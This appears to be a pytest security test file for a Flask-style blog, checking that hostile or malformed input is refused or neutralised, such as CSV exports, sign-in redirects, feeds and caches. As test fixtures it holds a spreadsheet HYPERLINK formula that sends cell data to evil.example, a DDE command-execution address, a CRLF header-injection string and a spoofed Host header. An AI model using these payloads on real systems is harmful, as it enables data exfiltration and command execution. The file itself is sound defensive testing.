"""Input an attacker (or a careless client) sends: each answers as a user expects, never a 500."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa
from helpers import AUTHOR_PASSWORD, add_post, admin_post, submit

from blog.extensions import db

NOW = datetime.now(UTC)
HUGE = "99999999999999999999999"


@pytest.fixture
def posts(app):
    with app.app_context():
        add_post("Published", NOW - timedelta(days=1), tags=("rust",))
        add_post("Draft", NOW - timedelta(days=1), tags=("drafttag",), draft=True)
        add_post("Scheduled", NOW + timedelta(days=3), tags=("futuretag",))
        db.session.commit()


@pytest.mark.parametrize(
    "path",
    [f"/page/{HUGE}/", f"/tags/rust/page/{HUGE}/", f"/digests/{HUGE}/", "/page/0/", "/tags/rust/page/0/"]
    + ["/page/01/", "/tags/rust/page/001/", "/digests/01/"],  # one address per page: no cache flooding
)
def test_page_and_id_numbers_out_of_range_are_not_found(client, posts, path):
    assert client.get(path).status_code == 404


def huge_token(purpose: str) -> str:
    """A token of the right shape whose unsigned payload claims an id no database can hold."""
    from itsdangerous import URLSafeTimedSerializer

    return URLSafeTimedSerializer("not the key", salt=purpose).dumps(int(HUGE))


@pytest.mark.parametrize("path", ["/subscribe/confirm/{}", "/unsubscribe/{}"])
def test_links_whose_token_names_a_huge_id_are_refused(client, path):
    token = huge_token("x")
    assert client.get(path.format(token)).status_code == 400
    one_click = client.post(path.format(token), data={"List-Unsubscribe": "One-Click"})
    assert one_click.status_code == 400


@pytest.mark.parametrize("tag", ["drafttag", "futuretag"])
def test_a_tag_only_unpublished_posts_carry_has_neither_page_nor_feed(client, posts, tag):
    assert client.get(f"/tags/{tag}/").status_code == 404
    assert client.get(f"/tags/{tag}/feed.xml").status_code == 404
    assert client.get("/tags/rust/feed.xml").status_code == 200


def test_signing_out_ends_the_session_and_the_remember_cookie(app, client, author):
    signed_in = submit(
        client, "/admin/sign-in", {"email": author, "password": AUTHOR_PASSWORD, "remember": "y"}
    )
    assert signed_in.status_code == 302
    old = {name: client.get_cookie(name).value for name in ("session", "remember_token")}
    assert client.get("/admin/").status_code == 200
    assert admin_post(client, "/admin/sign-out").status_code == 302
    for name, value in old.items():
        replay = app.test_client()
        replay.set_cookie(name, value)
        answer = replay.get("/admin/")
        assert answer.status_code == 302 and "/admin/sign-in" in answer.location, name


FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1+2", "-3+4", "@SUM(A1)", "\tx", "\rx"]


def test_csv_exports_never_hold_a_live_formula_and_reimport_reads_them_back(app, admin, runner, tmp_path):
    """A visitor controls their address and their browser's User-Agent; both reach the export."""
    from blog.models import Subscriber

    address = "=cmd|'/Ccalc'!A0@example.com"
    with app.app_context():
        for number, formula in enumerate(FORMULAS):
            email = f"reader{number}@example.com"
            db.session.add(Subscriber(email=email, email_key=email, consent_user_agent=formula))
        db.session.add(Subscriber(email=address, email_key=address, consent_user_agent="Firefox"))
        db.session.commit()
    exported = runner.invoke(args=["subscribers", "export"])
    assert exported.exit_code == 0, exported.output
    downloaded = admin.get("/admin/subscribers/export.csv")
    assert downloaded.status_code == 200
    for text in (exported.stdout, downloaded.text):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        agents = sorted(row["consent_user_agent"] for row in rows)
        assert agents == sorted(["Firefox"] + ["'" + formula for formula in FORMULAS])
    path = tmp_path / "export.csv"
    path.write_text(exported.stdout, encoding="utf-8")
    with app.app_context():
        db.session.execute(sa.delete(Subscriber))
        db.session.commit()
    reimported = runner.invoke(args=["subscribers", "import", str(path)])
    assert reimported.exit_code == 0 and "Added 7" in reimported.output, reimported.output
    with app.app_context():
        assert (
            db.session.scalar(sa.select(Subscriber.email).where(Subscriber.email_key == address.lower()))
            == address
        )


CONTROL_POST = """---
title: "Form\\ffeed"
tags: ["ok", "bad\\u0001tag"]
excerpt: "Line\\u000bbreak"
---
A body with a form feed in code: `a\fb`.
"""


def test_control_characters_are_stripped_on_import_with_a_warning(client, write_post, runner):
    result = runner.invoke(args=["import", "--json", str(write_post("control.md", CONTROL_POST))])
    assert result.exit_code == 0, result.output
    [post] = json.loads(result.stdout)["posts"]
    assert (post["title"], post["tags"]) == ("Formfeed", ["ok", "badtag"])
    assert any("control character" in warning for warning in post["warnings"])
    for path in ("/feed.xml", "/atom.xml", "/feed.json", "/tags/badtag/feed.xml", "/posts/control/"):
        assert client.get(path).status_code == 200, path


def test_feeds_stay_well_formed_whatever_a_stored_post_holds(app, client):
    with app.app_context():
        add_post("Old\fimport", NOW - timedelta(days=1), tags=("rust",))
        db.session.commit()
    for path in ("/feed.xml", "/atom.xml", "/feed.json", "/tags/rust/feed.xml"):
        answer = client.get(path)
        assert answer.status_code == 200 and "\f" not in answer.text, path
    assert "Oldimport" in client.get("/feed.xml").text


def test_control_characters_typed_in_the_editor_are_stripped_with_a_warning(app, admin):
    from blog.models import Post

    answer = admin_post(
        admin,
        "/admin/posts/new",
        {"title": "Typed\x07title", "body": "Text.", "tags": "a\x02b", "excerpt": "", "when": "now",
         "action": "publish"},
        page="/admin/posts/new",
    )  # fmt: skip
    assert answer.status_code == 302
    with app.app_context():
        post = db.session.scalar(sa.select(Post))
        assert (post.title, [tag.name for tag in post.tags]) == ("Typedtitle", ["ab"])
    assert "control character" in admin.get(answer.location).text


def test_a_line_break_in_next_after_signing_in_lands_on_the_dashboard(client, author):
    form = {"email": author, "password": AUTHOR_PASSWORD}
    answer = submit(client, "/admin/sign-in?next=/admin/posts/%0d%0aSet-Cookie:%20x=1", form)
    assert answer.status_code == 302 and answer.location == "/admin/"


def test_slash_redirects_point_at_site_url_not_at_the_host_the_request_named(app, client, posts):
    answer = client.get("/posts/published", headers={"Host": "evil.example"})
    assert answer.status_code in (301, 308)
    assert answer.location == f"{app.config['SITE_URL']}/posts/published/"


def test_only_real_style_attributes_are_allowed_by_the_page_policy(app, client):
    """Text that looks like a style attribute inside code is text, not something to allow."""
    from blog.platform.security import content_security_policy

    body = b'<p style="color: red">x</p><code>&lt;b style="x"&gt;</code><pre>a style="y" b</pre>'
    policy = content_security_policy(body)
    assert policy.count("'sha256-") == 1


def test_a_cover_just_over_the_limit_says_by_how_much(app):
    from blog.publishing.covers import CoverError, check_cover

    limit = 5 * 1024 * 1024
    png = b"\x89PNG\r\n\x1a\n" + b"\0" * (limit + 10)
    with pytest.raises(CoverError) as refused:
        check_cover(png, "big.png", limit)
    size, most = str(refused.value).split(" is ")[1].split("; covers can be at most ")
    assert size.split()[0] != most.split()[0], str(refused.value)


def test_searches_never_fill_the_shared_cache(app_factory, redis_url, posts):
    """The shared Redis also holds the mail queue: a visitor varying ?page= or ?q= must not fill it."""
    import redis

    site = app_factory(REDIS_URL=redis_url)
    client = site.test_client()
    assert client.get("/").status_code == 200
    for number in range(30):
        assert client.get(f"/search?q=published+{number}&page={number * 7919}").status_code == 200
    assert "Published" in client.get("/search?q=published").text
    keys = redis.Redis.from_url(redis_url).keys("weeknote:page:*")
    assert len(keys) == 1  # the home page
